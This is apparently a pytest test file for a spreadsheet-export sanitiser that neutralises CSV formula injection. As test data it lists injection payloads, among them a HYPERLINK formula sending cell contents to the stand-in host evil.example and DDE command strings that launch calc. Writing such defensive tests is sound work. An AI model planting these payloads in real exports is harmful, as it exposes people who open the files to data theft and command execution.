"""In a spreadsheet people's words stay words, and look as they were written."""

import csv
import io
import re
import unicodedata

import pytest

from server.exports.forms.cells import SHIELD, defused

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "- more time",
    "+ a word",
)
# What becomes a cell of its own when the file is opened with another separator than it was written with.
PARTED = ("x,=1+1", "x; =1+1", "x\t@SUM(1)", "first\n=1+1", 'x,"=1+1', "a, -b; +c")
WORDS = (
    "",
    "half of it",
    "1 = 1",
    "a-b",
    "e@mail",
    "“=”",
    "5",
    "…",
    "é",
    "🙂",
    "\u202e=1",
    "a - b",
    "2026-11-25",
)


@pytest.mark.parametrize("formula", [*FORMULAS, *PARTED])
def test_nothing_that_anybody_wrote_is_computed(formula: str) -> None:
    for separator in ",;\t\n\r":
        for cell in defused(formula).split(separator):
            assert not re.match(r"""[\s"']*[=+\-@＝＋－＠]""", cell)


@pytest.mark.parametrize("formula", [*FORMULAS, *PARTED])
def test_what_keeps_it_from_being_computed_is_not_seen_and_cannot_be_trimmed_away(formula: str) -> None:
    assert defused(formula).replace(SHIELD, "") == formula
    assert unicodedata.category(SHIELD) == "Cf"
    assert SHIELD.strip() == SHIELD


@pytest.mark.parametrize("words", WORDS)
def test_other_words_stay_as_they_are(words: str) -> None:
    assert defused(words) == words


def test_it_comes_back_from_a_file_as_it_went_in() -> None:
    file = io.StringIO()
    csv.writer(file).writerow([defused(formula) for formula in FORMULAS])

    (row,) = csv.reader(io.StringIO(file.getvalue(), newline=""))

    assert row == [defused(formula) for formula in FORMULAS]
